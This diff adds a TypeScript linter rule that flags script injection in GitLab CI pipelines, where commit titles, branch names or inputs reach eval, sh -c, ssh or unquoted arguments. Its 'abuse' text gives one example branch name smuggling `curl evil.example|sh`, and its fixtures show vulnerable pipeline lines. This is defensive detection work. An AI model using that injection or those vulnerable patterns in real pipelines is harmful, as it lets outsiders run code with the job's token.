@@ -1,0 +1,102 @@
+/** Text of outsiders that a shell reads as code. */
+import { child, itemsOf, type Node, textOf } from "../../../formats/node.ts";
+import { type Program, programsOf } from "../../../formats/shell-words/programs.ts";
+import { readShell, type ShellWord } from "../../../formats/shell-words/read-shell.ts";
+import type { Hit } from "../../cicd-rule.ts";
+import { placeIn } from "../../github/place-in.ts";
+import type { GitlabPipeline, GitlabScript } from "../gitlab-pipeline.ts";
+import type { GitlabRule } from "../gitlab-rule.ts";
+
+export const scriptInjection: GitlabRule = {
+  id: "cicd/gitlab-script-injection",
+  aliases: ["gl-injection", "poutine:injection", "pipeline-check:GL-002"],
+  title: "Text that outsiders choose reaches a script",
+  severity: "high",
+  risks: ["CICD-SEC-4"],
+  why: "Titles, messages and names of branches are written by whoever pushes or opens a merge request; where a shell reads them again, or without quotes, they become commands or options.",
+  abuse:
+    "Somebody pushes a branch called `x;curl evil.example|sh`; the job hands its name to `sh -c` and runs it with the job's token.",
+  fix: 'Use the variable alone and in double quotes (`"$CI_COMMIT_TITLE"`), never in `eval`, `sh -c` or `ssh`; for names, take CI_COMMIT_REF_SLUG. Inputs: give them `options`, a `regex` or a type, and pass them through `variables`.',
+  links: ["https://docs.gitlab.com/ci/variables/predefined_variables/", "https://docs.gitlab.com/ci/inputs/"],
+  check: (pipeline) =>
+    pipeline.parts.flatMap(({ scripts }) =>
+      scripts.flatMap((script) => [...variableUses(script), ...inputUses(script, pipeline)]),
+    ),
+  examples: {
+    bad: [
+      'a:\n  script:\n    - eval "echo $CI_COMMIT_TITLE"\n',
+      "a:\n  script:\n    - git checkout $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME\n",
+      'a:\n  script: ssh host "deploy ${CI_COMMIT_REF_NAME}"\n',
+      "spec:\n  inputs:\n    target:\n---\na:\n  script:\n    - ./deploy $[[ inputs.target ]]\n",
+    ],
+    good: [
+      'a:\n  script:\n    - ./note "$CI_COMMIT_TITLE"\n    - ./tag $CI_COMMIT_SHA $CI_COMMIT_REF_SLUG\n',
+      "spec:\n  inputs:\n    target:\n      options: [dev, prod]\n---\na:\n  script:\n    - ./deploy $[[ inputs.target ]]\n",
+    ],
+  },
+};
+
+const untrusted =
+  /\$\{?(CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|TAG_MESSAGE|AUTHOR)|CI_BUILD_REF_NAME|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME|GITLAB_USER_NAME|TRIGGER_PAYLOAD)(?![A-Z_])/;
+const readsAgain = new Set(["eval", "ssh", "su", "watch", "parallel", "sshpass"]);
+const interpreters = /^(?:(?:ba|da|a|z|k)?sh|python[\d.]*|ruby|perl|node|php|pwsh|powershell|psql|mysql)$/;
+
+function variableUses({ node, text, address }: GitlabScript): readonly Hit[] {
+  if (!untrusted.test(text)) return [];
+  const hits = new Map<string, Hit>();
+  for (const program of programsOf(readShell(text))) {
+    for (const [index, word] of program.words.entries()) {
+      const name = untrusted.exec(word.text)?.[1];
+      if (name === undefined || word.inner.length > 0 || hits.has(name)) continue;
+      const judged = judgeWord(program, word, index, text);
+      if (!judged) continue;
+      const { start, end } = program.writtenIn ?? word;
+      hits.set(name, { at: placeIn(node, start, end), address: `${address}/${name}`, ...judged });
+    }
+  }
+  return [...hits.values()];
+}
+
+function judgeWord(
+  program: Program,
+  word: ShellWord,
+  index: number,
+  script: string,
+): Pick<Hit, "why" | "severity"> | undefined {
+  const { name, words, writtenIn } = program;
+  const before = words[index - 1]?.text ?? "";
+  const isCode =
+    readsAgain.has(name) || (interpreters.test(name) && /^-[a-z]*[ce]$|^--(?:command|eval|execute)$/.test(before));
+  if (writtenIn || isCode) return { why: "a second shell or interpreter reads it as part of its program" };
+  const written = script.slice(word.start, word.end);
+  if (!/["']/.test(written))
+    return { why: "without quotes it becomes several arguments, and options", severity: "medium" };
+  if (/^"[^"]*"$/.test(written) && !/^"\$\{?\w+\}?"$/.test(written))
+    return { why: "it is mixed into other text, and whatever reads that takes it for its own", severity: "low" };
+  return undefined;
+}
+
+/** Inputs are pasted before any shell sees the script. */
+function inputUses({ node, text, address }: GitlabScript, { inputs }: GitlabPipeline): readonly Hit[] {
+  const hits = new Map<string, Hit>();
+  for (const found of text.matchAll(/\$\[\[\s*inputs\.([\w-]{1,200})([^\]]{0,300})\]\]/g)) {
+    const [whole, name = "", rest = ""] = found;
+    const expands = /\|\s*expand_vars\b/.test(rest);
+    if (hits.has(name) || (!expands && isRestricted(inputs.get(name)))) continue;
+    hits.set(name, {
+      at: placeIn(node, found.index, found.index + whole.length),
+      address: `${address}/inputs.${name}`,
+      why: expands
+        ? `the variables that the input \`${name}\` names are put in, too`
+        : `the input \`${name}\` is pasted into the script, whatever it holds`,
+      ...(!expands && { severity: "medium" as const }),
+    });
+  }
+  return [...hits.values()];
+}
+
+function isRestricted(input: Node | undefined): boolean {
+  const type = textOf(child(input, "type"));
+  if (type === "number" || type === "boolean") return true;
+  return itemsOf(child(input, "options")).length > 0 || child(input, "regex") !== undefined;
+}
